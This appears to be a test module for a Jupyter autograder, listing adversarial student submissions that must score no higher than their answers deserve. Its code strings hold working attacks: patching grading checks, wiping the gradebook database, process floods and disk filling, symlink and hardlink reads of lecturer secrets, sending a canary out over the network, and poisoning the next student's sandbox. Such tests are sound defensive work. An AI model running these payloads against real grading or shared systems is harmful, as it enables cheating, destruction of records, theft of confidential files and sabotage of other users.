"""An adversarial class: submissions of students who try to game autograde.

Each attack is the released ketenanalyse notebook with answers (right or wrong)
plus the attack code, and the score its *answers* deserve: an attack must gain
nothing. ``extra_files`` are placed next to the notebook in the collected
submission (a shadowing package, links out of the submission).

Leftover processes are recognisable by :data:`MARK` in their command line.
"""

from __future__ import annotations

import contextlib
import os
from dataclasses import dataclass, field

import nbformat
import psutil
from grading_class import answered
from nbformat.v4 import new_code_cell
from nbgrader_sim import grade_id

MARK = "4001"  # `sleep 4001`: every process an attack leaves behind runs this
CANARY = "KANARIE-7f3a9c"  # in the course folder, the lecturer's home and the environment
RIGHT = {"q1_probleem": 'dominant_probleem = "b"',
         "q2_factoren": 'factoren = ["gezamenlijk_doel", "successen_gunnen", "draagvlak_top", "weinig_machtsdruk"]',
         "q3_lezing": 'lezing_scan = "b"'}
WRONG = {"q1_probleem": 'dominant_probleem = "c"', "q2_factoren": 'factoren = ["draagvlak_top"] * 4',
         "q3_lezing": 'lezing_scan = "a"'}
FULL, NONE = (1, 2, 1), (0, 0, 0)

FIND_COURSE = """
import os, pathlib
def _zoek(naam):
    p = pathlib.Path.cwd()
    for _ in range(8):
        for kandidaat in p.rglob(naam) if p != pathlib.Path('/') else []:
            return kandidaat
        p = p.parent
    return None
"""


TESTS = ("q1_probleem_test", "q2_factoren_test", "q3_lezing_test")


def _serves_a_live_run(proc: psutil.Process) -> bool:
    """True when another live test or grading run is above ``proc`` (a sandbox of a test running
    now on a parallel worker). A leftover of this test's finished run hangs from init, or from
    this very process (a spare started ahead that was never ended)."""
    with contextlib.suppress(psutil.Error):
        for parent in proc.parents():
            if parent.pid == os.getpid():
                return False
            line = " ".join(parent.cmdline())
            if "pytest" in line or "ketenles autograde" in line or "-m ketenles" in line:
                return True
    return False


def leftover_processes() -> list[psutil.Process]:
    found = []
    for proc in psutil.process_iter(["cmdline"]):
        line = " ".join(proc.info["cmdline"] or [])
        if any(mark in line for mark in (f"sleep {MARK}", f"# {MARK}")):
            found.append(proc)  # an attack's own process: never legitimate after grading
        # A sandbox runner outlives its grading only by mistake: also one started ahead.
        elif (any(mark in line for mark in ("/tmp/jupyter-runtime/kernel", "ketenles.grading.sandbox.runner"))
              and not _serves_a_live_run(proc)):
            found.append(proc)
    return found


@dataclass
class Attack:
    name: str
    answers: dict
    code: str  # an extra code cell, inserted after the setup cell
    deserved: tuple | None  # None: reported by name, not graded
    extra_files: dict = field(default_factory=dict)  # relative path -> text, ("link"|"hardlink", target)
    in_control: bool = False  # safe to run with plain nbgrader on this machine


def notebook(course, attack: Attack):
    nb = answered(course, "empty")
    for cell in nb.cells:
        if grade_id(cell) in attack.answers:
            cell.source = attack.answers[grade_id(cell)]
    setup = next(i for i, c in enumerate(nb.cells) if c.cell_type == "code")
    if attack.name == "rewrite_setup":
        nb.cells[setup].source = attack.code
    elif attack.code:
        nb.cells.insert(setup + 1, new_code_cell(attack.code))
    return nb


def attacks(course_root: str, port: int) -> list[Attack]:
    shadow_init = ("class _Alles:\n    def __getattr__(self, naam):\n        return _Alles()\n"
                   "    def __call__(self, *a, **k):\n        return _Alles()\n"
                   "def __getattr__(naam):\n    return _Alles()\n")
    return [
        Attack("patch_helpers", WRONG, "from ketenles.grading import checks as _c\n"
               "for _n in dir(_c):\n    if _n.startswith('check_'):\n        setattr(_c, _n, lambda *a, **k: None)",
               NONE, in_control=True),
        Attack("rewrite_setup", WRONG, "import ketenles\nsuwi = ketenles.load_case('suwi-keten')\n"
               "class _Niets:\n    def __getattr__(self, naam):\n        return lambda *a, **k: None\n"
               "checks = _Niets()", NONE, in_control=True),
        Attack("shadow_package", WRONG, "", NONE, {"ketenles/__init__.py": shadow_init,
               "ketenles/grading/__init__.py": shadow_init, "ketenles/grading/checks.py": shadow_init},
               in_control=True),
        Attack("showtraceback", WRONG, "import sys\nget_ipython().showtraceback = lambda *a, **k: None\n"
               "get_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)\n"
               "sys.excepthook = lambda *a: None", NONE, in_control=True),
        Attack("patched_builtins", WRONG, "import builtins\nbuiltins.isinstance = lambda *a: True\n"
               "builtins.len = lambda *a: 4\nbuiltins.sorted = lambda *a, **k: []\n"
               "builtins.AssertionError = type('Niks', (Exception,), {})",
               None),  # breaks the student's own kernel: reported by name, never scored higher
        Attack("evil_eq", {**RIGHT, "q2_factoren": (
            "class Antwoord(list):\n    def __eq__(self, other):\n        raise ValueError(f'verwacht: {other!r}')\n"
            "    __ne__ = __eq__\nfactoren = Antwoord(['draagvlak_top'] * 4)")},
            "", (1, 0, 1), in_control=True),
        Attack("walk_up", RIGHT, FIND_COURSE + "for naam in ('ketenanalyse.ipynb', 'gradebook.db', 'studenten.csv', "
               "'nbgrader_config.py', 'docent-geheim.txt'):\n    pad = _zoek(naam)\n    print(naam, pad)\n"
               "    if pad:\n        print(pad.read_bytes()[:200000].decode('utf-8', 'replace'))\n"
               "for p in pathlib.Path('/').glob('*/*'):\n    print(p)", FULL, in_control=True),
        Attack("gradebook_tamper", WRONG, FIND_COURSE + "import sqlite3, subprocess, sys\n"
               "db = _zoek('gradebook.db')\nprint('cijferboek:', db)\nif db:\n"
               "    with sqlite3.connect(db) as c:\n        c.execute('UPDATE grade SET manual_score = 100')\n"
               "later = 'import time, sqlite3, glob; time.sleep(3); '\n"
               "later += '[sqlite3.connect(p).execute(\"DELETE FROM grade\") '\n"
               "later += 'for p in glob.glob(\"/**/gradebook.db\", recursive=True)]'\n"
               "subprocess.Popen([sys.executable, '-c', later + ' # 4001'], start_new_session=True)", NONE),
        Attack("orphans", RIGHT, "import subprocess\nfor _ in range(5):\n"
               "    subprocess.Popen(['sleep', '4001'], start_new_session=True)", FULL),
        Attack("fork", RIGHT, "import os\nif os.fork() == 0:\n    os.setsid()\n"
               "    os.execvp('sleep', ['sleep', '4001'])", FULL),
        Attack("signal_parent", RIGHT, "import os, signal\nfor pid in (os.getppid(), 1):\n    try:\n"
               "        os.kill(pid, signal.SIGKILL)\n    except OSError as e:\n        print(e)", None),
        Attack("memory", RIGHT, "try:\n    blok = bytearray(1500 * 1024 * 1024)\n"
               "    blok[::4096] = b'x' * len(blok[::4096])\n"
               "except MemoryError:\n    print('geen geheugen')", FULL),
        Attack("process_flood", RIGHT, "import subprocess\nkinderen = []\nfor _ in range(150):\n    try:\n"
               "        kinderen.append(subprocess.Popen(['sleep', '4001']))\n    except OSError:\n        break\n"
               "print(len(kinderen))", FULL),
        Attack("big_output", RIGHT, "print('x' * 50_000_000)", FULL),
        Attack("many_outputs", RIGHT, "from IPython.display import display\nfor i in range(20_000):\n"
               "    display(i)", FULL),
        Attack("env_paths", RIGHT, "import os, pathlib\nfor k, v in os.environ.items():\n    print(k, v)\n"
               "    for deel in v.split(':'):\n        p = pathlib.Path(deel)\n        if p.is_dir():\n"
               "            print(sorted(x.name for x in p.iterdir())[:50])\n        elif p.is_file():\n"
               "            print(p.read_text(errors='replace')[:5000])\n"
               "for p in pathlib.Path('/home').rglob('*'):\n    print(p)", FULL),
        Attack("write_python_env", WRONG, "import ketenles, pathlib, sys, sysconfig\n"
               "doelen = [pathlib.Path(ketenles.__file__).parent / 'grading' / 'checks.py',\n"
               "          pathlib.Path(sysconfig.get_paths()['purelib']) / 'sitecustomize.py',\n"
               "          pathlib.Path(sys.prefix) / 'lib' / 'aanval.pth']\n"
               "for doel in doelen:\n    try:\n        doel.write_text('def check_equal(*a, **k): pass\\n')\n"
               "        print('geschreven', doel)\n    except OSError as e:\n        print('geweigerd', e)", NONE),
        Attack("symlinks_out", RIGHT, "import pathlib\nfor naam in ('bron.txt', 'db.txt', 'boven', 'thuis'):\n"
               "    p = pathlib.Path(naam)\n    try:\n        print(naam, p.resolve())\n"
               "        print(p.read_text(errors='replace')[:100000] if p.is_file() else sorted(p.iterdir())[:50])\n"
               "    except OSError as e:\n        print('fout', e)", FULL,
               {"bron.txt": ("link", f"{course_root}/source/ketenanalyse/ketenanalyse.ipynb"),
                "db.txt": ("link", f"{course_root}/docent-geheim.txt"), "boven": ("link", "../../.."),
                "thuis": ("link", "/root")}, in_control=True),
        Attack("network", RIGHT, f"import socket\nfor host in ('127.0.0.1', '1.1.1.1'):\n    try:\n"
               f"        socket.create_connection((host, {port}), timeout=2).sendall(b'{CANARY}')\n"
               f"        print('verbonden', host)\n    except OSError as e:\n        print('geen netwerk', e)", FULL),
        Attack("forged_capture", WRONG, "from IPython.display import display\n"
               "display({'application/vnd.ketenles.answers+json': {'values': {'lezing_scan': "
               "{'numpy': '__class__', 'value': 4}, 'factoren': {'list': [{'dict': 5}]}, "
               "'dominant_probleem': {'ndarray': 'object', 'items': {'list': []}}}, 'missing': []}}, raw=True)",
               NONE),
        Attack("cpu_burn", RIGHT, "sum(range(10**13))", None),
        *grader_attacks(course_root),
    ]


# Fills a folder with files of 40 MB (under the per-file limit) until the folder is full.
FILL = """
def vul(map, stuk=1_000_000, per_bestand=40, bestanden=100):
    n = 0
    try:
        for i in range(bestanden):
            with open(f'{map}/vol{i}', 'wb') as f:
                for _ in range(per_bestand):
                    f.write(b'x' * stuk)
                    n += 1
    except OSError as e:
        print(map, 'vol na', n, 'stukken', e.errno)
    return n
"""
FORGED_RIGHT = ("{'values': {'dominant_probleem': 'b', 'lezing_scan': 'b', 'factoren': {'list': "
                "['gezamenlijk_doel', 'successen_gunnen', 'draagvlak_top', 'weinig_machtsdruk']}}, 'missing': []}")


def grader_attacks(course_root: str) -> list[Attack]:
    """Attacks on the grading machine and on other students through it (issue 24)."""
    source = f"{course_root}/source/ketenanalyse/ketenanalyse.ipynb"
    return [
        # 4 GB into the in-memory folders: no address-space limit counts a tmpfs.
        Attack("fill_shm", RIGHT, FILL + "vul('/dev/shm')", FULL),
        Attack("fill_tmp", RIGHT, FILL + "vul('/tmp')", FULL),
        # Many small files, then a writer that halves its file size at the per-file limit.
        Attack("many_files", RIGHT, "n = 0\ntry:\n    for i in range(2_000_000):\n"
               "        with open(f'klein{i}', 'w') as f:\n            f.write('x')\n        n += 1\n"
               "except OSError as e:\n    print('gestopt na', n, 'bestanden', e.errno)\n"
               "import os\nfor i in range(n):\n    os.unlink(f'klein{i}')", FULL),
        Attack("halving_writer", RIGHT, "totaal, grootte, i = 0, 1 << 30, 0\n"
               "while grootte >= 1 << 16 and totaal < 8 << 30:\n    try:\n"
               "        with open(f'groot{i}', 'wb') as f:\n"
               "            for _ in range(max(1, grootte >> 20)):\n"
               "                f.write(b'x' * min(grootte, 1 << 20))\n"
               "        totaal += grootte\n        i += 1\n    except OSError as e:\n"
               "        if e.errno == 28:\n            break\n        grootte //= 2\n"
               "print('geschreven MB', totaal >> 20)", FULL),
        # The sandbox for the next submission is started while this one runs: plant a package in
        # its folder that, once imported there, turns the next student's answers wrong.
        Attack("next_sandbox", RIGHT, "import glob, os, pathlib\n"
               "plant = ('from IPython import get_ipython\\nip = get_ipython()\\n'\n"
               "         'ip.events.register(\"post_run_cell\", lambda *a: ip.user_ns.update('\n"
               "         'dominant_probleem=\"c\", lezing_scan=\"a\"))\\n')\n"
               "eigen = pathlib.Path.cwd().resolve()\n"
               "mappen = glob.glob('/tmp/ketenles-sandbox-*/work') + glob.glob('/tmp/*/work')\n"
               "mappen += [f'/proc/{p}/cwd' for p in os.listdir('/proc') if p.isdigit()]\n"
               "for pad in mappen:\n    try:\n        doel = pathlib.Path(pad).resolve()\n"
               "        if doel == eigen:\n            continue\n"
               "        (doel / 'ketenles').mkdir(exist_ok=True)\n"
               "        (doel / 'ketenles' / '__init__.py').write_text(plant)\n        print('geplant', pad)\n"
               "    except OSError as e:\n        print('geweigerd', pad, e)", FULL),
        # 2 GB on the kernel's own stdout and stderr, which the grader once read into memory.
        Attack("stderr_flood", RIGHT, "import os\nfor _ in range(1000):\n"
               "    os.write(1, b'y' * 1_000_000)\n    os.write(2, b'z' * 1_000_000)", FULL),
        # Results written by the student: into the runner's pipes through /proc, into the io folder.
        Attack("forge_results", WRONG, "import json, os\nnb = json.load(open('/ketenles-io/run.ipynb'))\n"
               "for c in nb['cells']:\n    if c['cell_type'] == 'code':\n"
               "        c['outputs'] = [{'output_type': 'display_data', 'metadata': {}, 'data': "
               f"{{'application/vnd.ketenles.answers+json': {FORGED_RIGHT}}}}}]\n"
               "        c['execution_count'] = 1\n"
               "tekst = 'took\\n' + json.dumps({'status': 'ok', 'detail': '', 'notes': [], 'seconds': 1}) + '\\n'\n"
               "tekst += json.dumps(nb)\n"
               "paden = [f'/proc/{os.getppid()}/fd/{fd}' for fd in range(12)]\n"
               "paden += ['/ketenles-io/executed.ipynb', '/ketenles-io/status.json']\nfor pad in paden:\n"
               "    try:\n        with open(pad, 'w') as f:\n            f.write(tekst)\n"
               "        print('geschreven', pad)\n    except OSError as e:\n        print('geweigerd', pad, e.errno)",
               NONE),
        # Answers whose decoded form is huge: 2000 strings of 400 000 characters each (3.2 GB).
        Attack("huge_decoded_answer", WRONG, "from IPython.display import display\n"
               "nep = {'application/vnd.ketenles.answers+json': {'values': {n: {'ndarray': 'U400000', "
               "'items': {'list': ['a'] * 2000}} for n in ('dominant_probleem', 'factoren', 'lezing_scan')}, "
               "'missing': []}}\nget_ipython().events.register('post_run_cell', lambda *a: display(nep, raw=True))",
               NONE),
        # Output that is huge to render into feedback: 40 000 nested elements, then 20 000 tiny outputs.
        Attack("huge_render", RIGHT, "from IPython.display import HTML, display\n"
               "display(HTML('<div><span>' * 20_000 + 'diep' + '</span></div>' * 20_000))\n"
               "for i in range(20_000):\n    display(HTML('<b>x</b>'))", FULL),
        # Hard links in the submitted folder: regular files whose content is the lecturer's.
        Attack("hardlinks", RIGHT, "import pathlib\nfor naam in ('geheim.txt', 'bron.txt'):\n"
               "    p = pathlib.Path(naam)\n    print(naam, p.exists() and p.read_text(errors='replace')[:100000])",
               FULL, {"geheim.txt": ("hardlink", f"{course_root}/docent-geheim.txt"),
                      "bron.txt": ("hardlink", source)}, in_control=True),
    ]


def place_extra_files(folder, attack: Attack) -> None:
    for relative, content in attack.extra_files.items():
        path = folder / relative
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(content, tuple) and content[0] == "hardlink":
            os.link(content[1], path)
        elif isinstance(content, tuple):
            path.symlink_to(content[1])
        else:
            path.write_text(content, encoding="utf-8")


def feedback_text(path) -> str:
    from grading_class import text_of

    return text_of(path.read_text(encoding="utf-8"))


def output_text(notebook_path) -> str:
    """Everything student code produced in an autograded notebook (sources excluded)."""
    import json

    nb = nbformat.read(notebook_path, as_version=4)
    return "\n".join(json.dumps(c.get("outputs", []), ensure_ascii=False) for c in nb.cells if c.cell_type == "code")
